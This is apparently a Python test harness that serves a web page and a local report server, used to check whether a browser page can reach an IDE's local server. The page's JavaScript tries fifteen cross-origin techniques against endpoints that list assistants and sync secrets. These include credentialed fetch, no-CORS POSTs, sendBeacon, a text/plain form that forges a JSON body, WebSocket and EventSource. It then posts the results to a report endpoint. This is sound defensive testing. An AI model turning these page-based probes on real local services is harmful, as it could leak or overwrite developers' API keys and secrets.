"""A web page that tries everything a page can try at a server on this machine, and the server that it comes from."""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field

ATTACKS = (
    "fetch", "fetch-credentials", "fetch-bearer", "fetch-no-cors", "post-no-cors", "xhr", "beacon", "form", "websocket",
    "events", "image", "script", "style", "frame", "object",
)  # fmt: skip
"""What the page tries, by name; it reports what it got of each."""

_SCRIPT = """
const list = target + '/ide/list-assistants?alwaysUseProxy=false';
const unknown = target + '/ide/get-assistant/canary/from-a-page';
const secrets = JSON.stringify({fqsns: [{packageSlugs: [{ownerSlug: 'dana', packageSlug: 'local-chat'}],
  secretName: 'LLM_KEY'}, {packageSlugs: [], secretName: 'CANARY_FROM_A_PAGE'}], orgScopeId: null});
const told = r => r.text().then(t => r.type + ' ' + r.status + ' ' + t);
function element(tag, attribute, value) {
  return new Promise(done => {
    const made = document.createElement(tag);
    if (tag === 'link') made.rel = 'stylesheet';
    made.onload = () => {
      let inside = '';
      try { inside = made.contentDocument ? made.contentDocument.documentElement.outerHTML : ''; }
      catch (error) { inside = error.name; }
      done('loaded ' + (made.naturalWidth || 0) + ' ' + inside);
    };
    made.onerror = () => done('error');
    made[attribute] = value;
    document.body.appendChild(made);
  });
}
const attacks = {
  'fetch': () => fetch(list).then(told),
  'fetch-credentials': () => fetch(list, {credentials: 'include'}).then(told),
  'fetch-bearer': () => fetch(list, {headers: {Authorization: 'Bearer undefined'}}).then(told),
  'fetch-no-cors': () => fetch(unknown, {mode: 'no-cors', referrerPolicy: 'no-referrer'}).then(told),
  'post-no-cors': () => fetch(target + '/ide/sync-secrets',
    {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'}, body: secrets}).then(told),
  'xhr': () => new Promise(done => {
    const asked = new XMLHttpRequest();
    asked.onload = () => done('loaded ' + asked.status + ' ' + asked.responseText);
    asked.onerror = () => done('error');
    asked.open('GET', list);
    asked.send();
  }),
  'beacon': () => Promise.resolve(String(navigator.sendBeacon(target + '/ide/sync-secrets', secrets))),
  'form': () => new Promise(done => {
    const frame = document.createElement('iframe'), form = document.createElement('form');
    frame.name = 'answer';
    form.method = 'POST'; form.enctype = 'text/plain'; form.target = 'answer';
    form.action = target + '/ide/sync-secrets';
    const input = document.createElement('input');
    input.name = secrets.slice(0, -1) + ',"x":"'; input.value = '"}';
    form.appendChild(input);
    document.body.append(frame, form);
    frame.onload = () => {
      try { done('loaded ' + frame.contentDocument.documentElement.outerHTML); } catch (error) { done(error.name); }
    };
    form.submit();
  }),
  'websocket': () => new Promise(done => {
    const socket = new WebSocket(target.replace('http', 'ws') + '/ide/list-assistants');
    socket.onopen = () => done('open');
    socket.onmessage = event => done('message ' + event.data);
    socket.onerror = () => done('error');
  }),
  'events': () => new Promise(done => {
    const source = new EventSource(list);
    source.onopen = () => done('open');
    source.onmessage = event => done('message ' + event.data);
    source.onerror = () => { source.close(); done('error'); };
  }),
  'image': () => element('img', 'src', list),
  'script': () => element('script', 'src', list),
  'style': () => element('link', 'href', list),
  'frame': () => element('iframe', 'src', list),
  'object': () => element('object', 'data', list),
};
async function attack() {
  const found = {};
  const late = () => new Promise(done => setTimeout(() => done('nothing came'), 4000));
  await Promise.all(Object.entries(attacks).map(async ([what, run]) => {
    try { found[what] = await Promise.race([run(), late()]); } catch (error) { found[what] = error.name; }
  }));
  found['icon'] = await Promise.race([element('img', 'src', target + icon_path), late()]);
  found['dom'] = document.documentElement.outerHTML;
  await fetch(report + '/report/' + name, {method: 'POST', mode: 'no-cors', body: JSON.stringify(found)});
}
"""

_WAIT = """
async function wait() {
  for (;;) {
    const said = await (await fetch(report + '/go')).json().catch(() => null);
    if (said) { icon_path = said.icon; return attack(); }
    await new Promise(done => setTimeout(done, 100));
  }
}
fetch(report + '/loaded/' + name, {mode: 'no-cors'}).then(wait);
"""


def page(name: str, target: str, report: str, frames: tuple[str, ...] = ()) -> bytes:
    """The page `name`: it says that it was loaded, waits for the word, then attacks `target` and reports."""
    names = f"const target = {json.dumps(target)}, report = {json.dumps(report)}, name = {json.dumps(name)};"
    inside = "".join(f'<iframe src="{address}"></iframe>' for address in frames)
    script = f"let icon_path = '';\n{names}\n{_SCRIPT}{_WAIT}"
    return f"<!doctype html><title>{name}</title><body>{inside}<script>\n{script}</script>".encode()


@dataclass
class Origin:
    """A web server: `pages` by path; what its pages loaded and reported. `go` is what tells them to begin."""

    pages: dict[str, bytes] = field(default_factory=dict)
    loaded: set[str] = field(default_factory=set)
    reports: dict[str, dict[str, str]] = field(default_factory=dict)
    go: dict[str, str] | None = None
    port: int = 0


@contextmanager
def serving(origin: Origin) -> Iterator[Origin]:
    """Serve it on 127.0.0.1."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            word, _, name = self.path.strip("/").partition("/")
            if word == "loaded":
                origin.loaded.add(name)
            body = json.dumps(origin.go).encode() if word == "go" else origin.pages.get(self.path, b"")
            self.send_response(200)
            self.send_header("Content-Type", "application/json" if word == "go" else "text/html")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
            if self.path.startswith("/report/"):
                origin.reports[self.path.removeprefix("/report/")] = json.loads(body)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", origin.port), Handler) as server:
        server.daemon_threads = True
        origin.port = server.server_address[1]
        thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
        thread.start()
        try:
            yield origin
        finally:
            server.shutdown()
            thread.join()
